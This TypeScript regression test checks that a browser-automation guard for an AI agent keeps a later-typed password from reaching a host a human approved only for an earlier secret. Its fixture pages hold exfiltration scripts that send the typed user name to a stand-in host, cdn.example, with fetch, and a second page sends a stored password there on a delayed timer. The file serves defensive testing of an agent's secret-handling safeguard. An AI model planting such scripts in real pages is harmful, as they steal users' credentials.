// A host a held request's question allowed after a first secret was typed into login.example does not take a
// second secret typed into the same origin later (core/guardState.ts recordTypedSecret: every secret typed clears
// the hosts a secret may go to). Found by an attack review: the human let cdn.example have the user name the page
// reported; the password typed after it went there too, unasked. Assertions on what cdn.example received.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { type Fixture, html, startFixture } from '../helpers/fixtureServer.ts';
import { type InProcessBrowser, startInProcess } from '../helpers/inProcessMcp.ts';
import { refOf } from '../helpers/mcpClient.ts';

let site: Fixture;
let tw: InProcessBrowser;
const user = 'alice-user-7731';
const password = 'pw-second-secret-9931';
const url = (host: string, path: string) => site.url(host, path);
const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

before(async () => {
  site = await startFixture(
    {
      '/a': (_req, _body, res) => void res.writeHead(204).end(),
      // The login page reports the user name to its analytics host as it is typed (held: the human lets it go),
      // and keeps the password in storage.
      '/login': (_req, _body, res) =>
        html(
          res,
          `<title>Sign in</title><input name="user" aria-label="User name"><input type="password" name="pw" aria-label="Password">
          <script>
            document.querySelector('[name=user]').addEventListener('change', (e) => fetch('https://cdn.example:${site.port}/a?u=' + encodeURIComponent(e.target.value), { mode: 'no-cors' }));
            document.querySelector('[name=pw]').addEventListener('input', (e) => localStorage.setItem('kept', e.target.value));
          </script>`,
        ),
      // Another page of the site sends what was kept, once the agent's call that opened it is over.
      '/account': (_req, _body, res) =>
        html(
          res,
          `<title>Account</title><p>Your account</p><script>setTimeout(() => fetch('https://cdn.example:${site.port}/a?p=' + encodeURIComponent(localStorage.getItem('kept') || 'none'), { mode: 'no-cors' }), 3000);</script>`,
        ),
    },
    { tls: true },
  );
  const origin = url('login.example', '');
  tw = await startInProcess({
    secrets: `LOGIN_USER@${origin}=${user}\nLOGIN_PASSWORD@${origin}=${password}\n`,
  });
});

after(async () => {
  await tw?.close();
  await site?.close();
});

test('a host allowed for a first secret does not take a second secret typed later into the same origin', async () => {
  const mcp = await tw.connect();
  let passwordTyped = false;
  // Approves what it is shown until the password is typed; after that it would refuse anything.
  mcp.human.policy = () => ({ decision: passwordTyped ? 'reject' : 'approve' });
  try {
    await mcp.call('navigate_page', { url: url('login.example', '/login') });
    let snapshot = await mcp.call('take_snapshot');
    const filledUser = await mcp.call('fill', {
      ref: refOf(snapshot.text, 'User name'),
      secret: 'LOGIN_USER',
    });
    assert.equal(filledUser.isError, false, filledUser.text);
    // The change event fires as the focus leaves: click the password field.
    snapshot = await mcp.call('take_snapshot');
    await mcp.call('click', { ref: refOf(snapshot.text, 'Password') });
    await pause(1_000);
    const cdnQuestion = mcp.human.questions.find((question) => /cdn\.example/.test(question));
    assert.ok(cdnQuestion, 'the human was asked about cdn.example for the user name');
    passwordTyped = true;
    snapshot = await mcp.call('take_snapshot');
    const filled = await mcp.call('fill', {
      ref: refOf(snapshot.text, 'Password'),
      secret: 'LOGIN_PASSWORD',
    });
    assert.equal(filled.isError, false, filled.text);
    await mcp.call('new_page', { url: url('login.example', '/account') });
    await pause(5_000);
    const sent = site.seen.filter(
      (request) => request.host.startsWith('cdn.example:') && request.path.includes(password),
    );
    assert.deepEqual(
      sent.map((request) => request.path),
      [],
      'the password reached cdn.example',
    );
  } finally {
    await mcp.close();
  }
});
